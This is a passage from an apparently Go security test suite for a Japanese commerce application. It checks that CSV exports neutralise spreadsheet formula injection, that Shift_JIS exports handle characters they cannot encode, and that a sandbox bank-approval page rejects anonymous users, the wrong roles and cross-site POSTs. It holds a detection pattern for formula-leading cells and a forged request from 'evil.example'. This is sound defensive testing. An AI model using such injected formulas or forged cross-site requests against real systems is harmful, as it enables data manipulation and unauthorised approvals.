		if res.Status != http.StatusCreated {
			t.Fatalf("customer %q: %d %s", name, res.Status, res.Body)
		}
		id := regexp.MustCompile(`"id":"([^"]+)"`).FindStringSubmatch(res.Body)[1]
		res = inst.API(t, staff, "POST", "/api/v1/cases", map[string]any{"kind": "ippan", "shop_id": shop[1], "customer_id": id, "purchase_amount": 1000})
		if res.Status != http.StatusCreated {
			t.Fatalf("case for %q: %d %s", name, res.Status, res.Body)
		}
		res = inst.API(t, staff, "POST", "/api/v1/orders", map[string]any{"shop_id": shop[1], "customer_id": id, "payment_method": "cod", "ship_name": name,
			"lines": []map[string]any{{"name": name, "unit_price": 1000, "quantity": 1}}})
		if res.Status != http.StatusCreated {
			t.Fatalf("order for %q: %d %s", name, res.Status, res.Body)
		}
		res = inst.API(t, staff, "POST", "/api/v1/subscriptions", map[string]any{"shop_id": shop[1], "customer_id": id, "status": "paused",
			"product_name": name, "amount": 1000})
		if res.Status != http.StatusCreated {
			t.Fatalf("subscription for %q: %d %s", name, res.Status, res.Body)
		}
	}
	viewer := inst.Client(t, auth.RoleViewer)
	var exports []string
	for _, tm := range commerce.CustomerExportTemplates() {
		exports = append(exports, "/api/v1/customers/export.csv?encoding=utf-8&template="+tm.ID, "/customers.csv?encoding=utf-8&template="+tm.ID)
	}
	for _, tm := range commerce.CaseExportTemplates() {
		exports = append(exports, "/api/v1/cases/export.csv?encoding=utf-8&template="+tm.ID, "/cases.csv?encoding=utf-8&template="+tm.ID)
	}
	for _, tm := range commerce.OrderExportTemplates() {
		exports = append(exports, "/api/v1/orders/export.csv?encoding=utf-8&template="+tm.ID, "/orders.csv?encoding=utf-8&template="+tm.ID)
	}
	for _, tm := range commerce.SubscriptionExportTemplates() {
		exports = append(exports, "/api/v1/subscriptions/export.csv?encoding=utf-8&template="+tm.ID)
	}
	for _, path := range exports {
		var res *apptest.Response
		if strings.HasPrefix(path, "/api/") {
			res = inst.API(t, staff, "GET", path, nil)
		} else {
			res = viewer.Get(path)
		}
		if res.Status != http.StatusOK {
			t.Errorf("%s: %d %.200s", path, res.Status, res.Body)
			continue
		}
		seen := 0
		for _, row := range csvCells(t, res.Body)[1:] {
			for _, cell := range row {
				c.probes.Add(1)
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^[+-]?\d+(\.\d+)?$`).MatchString(cell) {
					t.Errorf("%s: cell %q would run as a formula", path, cell)
					continue
				}
				for _, e := range evil {
					if cell == "'"+e {
						seen++
						c.refusals.Add(1)
					}
				}
			}
		}
		if seen < len(evil) {
			t.Errorf("%s: %d of the %d formula names exported (neutralised)", path, seen, len(evil))
		}
	}
}

func secUnencodable(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	staff := inst.APIKey(t, auth.RoleStaff)
	for _, name := range []string{"山田 太郎", "𠮷田 花子", "佐藤 一郎"} {
		if res := inst.API(t, staff, "POST", "/api/v1/customers", map[string]any{"name": name}); res.Status != http.StatusCreated {
			t.Fatalf("customer %q: %d %s", name, res.Status, res.Body)
		}
	}
	viewer := inst.Client(t, auth.RoleViewer)
	// The default Shift_JIS export reports the row and offers the ways out.
	res := viewer.Get("/customers.csv")
	c.expect(t, "Shift_JIS export with 𠮷", res.Status, res.Body, http.StatusUnprocessableEntity)
	links := regexp.MustCompile(`href="(/customers\.csv\?[^"]+)"`).FindAllStringSubmatch(res.Body, -1)
	if !strings.Contains(res.Body, "𠮷") || !strings.Contains(res.Body, "1行") || len(links) != 2 {
		t.Fatalf("no per-row report with two ways out: %.600s", res.Body)
	}
	for _, l := range links {
		href := strings.ReplaceAll(l[1], "&amp;", "&")
		res := viewer.Get(href)
		c.expect(t, "export from the report: "+href, res.Status, res.Body, http.StatusOK)
		text := res.Body
		if strings.Contains(href, "unencodable=replace") {
			dec, err := japanese.ShiftJIS.NewDecoder().String(res.Body)
			if err != nil {
				t.Fatal(err)
			}
			text = dec
		}
		for _, want := range []string{"山田 太郎", "佐藤 一郎"} {
			if !strings.Contains(text, want) {
				t.Errorf("%s: %q missing: every other record must be exported", href, want)
			}
		}
		if strings.Contains(href, "unencodable=replace") && !strings.Contains(text, "〓田 花子") {
			t.Errorf("Shift_JIS with replacement: no 〓田 花子")
		}
		if strings.Contains(href, "utf-8") && !strings.Contains(text, "𠮷田 花子") {
			t.Errorf("UTF-8: no 𠮷田 花子")
		}
	}
	// The API says the same and takes the same two ways.
	res = inst.API(t, staff, "GET", "/api/v1/customers/export.csv", nil)
	c.expect(t, "API Shift_JIS export with 𠮷", res.Status, res.Body, http.StatusUnprocessableEntity)
	if !strings.Contains(res.Body, "unencodable=replace") || !strings.Contains(res.Body, "rows.") {
		t.Errorf("API refusal names neither the rows nor the way out: %s", res.Body)
	}
	res = inst.API(t, staff, "GET", "/api/v1/customers/export.csv?unencodable=replace", nil)
	c.expect(t, "API Shift_JIS export with replacement", res.Status, res.Body, http.StatusOK)
	res = inst.API(t, staff, "GET", "/api/v1/customers/export.csv?encoding=utf-8", nil)
	c.expect(t, "API UTF-8 export", res.Status, res.Body, http.StatusOK)
}

func secSandboxApproval(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	anon := inst.Anonymous(t)
	res := anon.Get("/sandbox/aozora/mailbox")
	c.expect(t, "anonymous mailbox", res.Status, res.Body, http.StatusSeeOther)
	if strings.Contains(res.Body, "token") {
		t.Errorf("anonymous mailbox shows tokens: %.300s", res.Body)
	}
	res = anon.PostFormNoCSRF("/sandbox/aozora/approve", url.Values{"token": {"x"}, "password": {"sandbox"}})
	c.expect(t, "anonymous approval", res.Status, res.Body, http.StatusSeeOther)
	staff := inst.Client(t, auth.RoleStaff)
	res = staff.Get("/sandbox/aozora/mailbox")
	c.expect(t, "staff opens the mailbox", res.Status, res.Body, http.StatusForbidden)
	acct := inst.Client(t, auth.RoleAccountant)
	res = acct.Get("/sandbox/aozora/mailbox")
	c.expect(t, "経理 opens the mailbox", res.Status, res.Body, http.StatusOK)
	// The approval form is the bank's and carries no kessai token: it must come from this site.
	req, _ := http.NewRequest("POST", inst.URL+"/sandbox/aozora/approve", strings.NewReader("token=x&password=sandbox"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", "https://evil.example")
	res = acct.Do(req)
	c.expect(t, "approval posted from another site", res.Status, res.Body, http.StatusForbidden)
	req, _ = http.NewRequest("POST", inst.URL+"/sandbox/aozora/approve", strings.NewReader("token=x&password=sandbox"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", inst.URL)
	res = acct.Do(req)
	if res.Status == http.StatusForbidden || res.Status == http.StatusSeeOther {
		t.Errorf("approval from this site reached no simulator: %d %.200s", res.Status, res.Body)
	}
	// Connected to the real bank (what the provider connection reports), the pages are gone.
	inst.App.Sandbox.Active = func(context.Context, string) bool { return false }
	res = acct.Get("/sandbox/aozora/mailbox")
	c.expect(t, "mailbox with the real bank connected", res.Status, res.Body, http.StatusNotFound)
	res = acct.Get("/sandbox/aozora/approve?token=x")
	c.expect(t, "approval page with the real bank connected", res.Status, res.Body, http.StatusNotFound)
}
